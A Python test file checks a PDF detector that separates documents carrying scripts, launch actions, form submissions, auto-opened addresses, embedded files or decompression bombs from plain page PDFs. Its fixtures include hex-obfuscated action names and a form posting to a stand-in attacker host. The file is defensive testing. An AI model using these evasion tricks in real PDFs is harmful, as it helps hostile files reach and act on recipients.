"""PDFs that run, open or send something are told from those that only show pages."""

import zlib
from random import Random

import pytest

from polibat.files.pdf import is_active
from tests.factories import PDF, PDF_END

OBJECTS = b"5 0 6 40 "
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def pdf(*parts):
    """A PDF around some objects."""
    return PDF + b"\n".join(parts) + PDF_END


def stream(content, head=b"", *, packed=True):
    """A stream object."""
    content = zlib.compress(content) if packed else content
    how = b"/Filter/FlateDecode" if packed else b""
    return b"9 0 obj<<%b%b/Length %d>>stream\n%b\nendstream endobj" % (head, how, len(content), content)


def object_stream(content, head=b"/Type/ObjStm/N 2/First 9", **how):
    """An object stream that holds `content`."""
    return stream(OBJECTS + content, head, **how)


ACTIVE = {
    "program": pdf(b"3 0 obj", SCRIPT, b"endobj"),
    "hex name": pdf(b"3 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj"),
    "launch": pdf(b"3 0 obj<</S/L#61unch/F(calc.exe)>>endobj"),
    "attachment": pdf(b"3 0 obj<</Names<</Embedded#46iles 4 0 R>>>>endobj"),
    "form that sends": pdf(b"3 0 obj<</S/SubmitForm/F(https://evil.example/)>>endobj"),
    "opens an address": pdf(b"3 0 obj<</OpenAction<</S/URI/URI(https://evil.example/)>>>>endobj"),
    "opens an address by reference": pdf(b"3 0 obj<</OpenAction 4 0 R>>endobj 4 0 obj<</S /URI/URI(x:)>>endobj"),
    "page opens an address": pdf(b"3 0 obj<</AA<</O<</S/GoToR/F(x)>>>>>>endobj"),
    "XFA": pdf(b"3 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj"),
    "rich media": pdf(b"3 0 obj<</Subtype/RichMedia>>endobj"),
    "object stream": pdf(object_stream(SCRIPT)),
    "object stream, hex": pdf(object_stream(b"<</S/J#61vaScript>>")),
    "object stream with another name": pdf(object_stream(SCRIPT, b"/N 2/First 9")),
    "object stream that begins with a comment": pdf(stream(b"% 1\n" + OBJECTS + SCRIPT, b"/Type/ObjStm")),
    "object stream as it lies": pdf(object_stream(b"<</XFA 4 0 R>>", packed=False)),
    "object stream that is cut": pdf(object_stream(SCRIPT + Random(1).randbytes(9000)))[:-900] + PDF_END,
    "object stream of other packing": pdf(object_stream(b"x", b"/Type/ObjStm/Filter/ASCII85Decode", packed=False)),
    "object stream under a key": pdf(object_stream(b"x"), b"trailer<</Encrypt 8 0 R>>"),
    "object stream behind a predictor": pdf(stream(b"\x02" + OBJECTS, b"/Type/ObjStm/DecodeParms<</Predictor 12>>")),
    "bomb": pdf(object_stream(bytes(40 * 1024 * 1024))),
    "action in a stream, opened at once": pdf(
        object_stream(b"<</S/URI/URI(https://evil.example/)>>"), b"3 0 obj<</OpenAction 4 0 R>>endobj"
    ),
}
HARMLESS = {
    "pages": pdf(),
    "links": pdf(b"3 0 obj<</Annots[<</A<</S/URI/URI(https://www.assembly.example/)>>>>]>>endobj"),
    "goes to a page when opened": pdf(
        b"3 0 obj<</OpenAction[3 0 R/Fit]>>endobj 4 0 obj<</A<</S/URI/URI(https://a.example)>>>>endobj"
    ),
    "goes to a page by action": pdf(b"3 0 obj<</OpenAction <</Type/Action/S/GoTo/D[3 0 R]>>>>endobj 4 0 obj<</S/URI>>"),
    "pages in streams": pdf(object_stream(b"<</Type/Page>><</Type/Font>>")),
    "words about programs": pdf(stream(b"1 0 0 1 72 720 cm BT (a /JavaScript course, \\) /JS) Tj ET")),
    "pictures": pdf(stream(bytes(range(256)) * 4000, b"/Subtype/Image/DecodeParms<</Predictor 15>>")),
    "old packing without object streams": pdf(stream(b"x", b"/Filter/ASCII85Decode", packed=False)),
    "under a key without object streams": pdf(b"trailer<</Encrypt 8 0 R>>"),
    "short names among packed bytes": pdf(b"9 0 obj<<>>stream\n\x00/JS /XFA \x01\nendstream endobj"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_does_more_than_show_pages_is_seen(name):
    assert is_active(ACTIVE[name])


@pytest.mark.parametrize("name", HARMLESS)
def test_what_offices_print_is_taken(name):
    assert not is_active(HARMLESS[name])
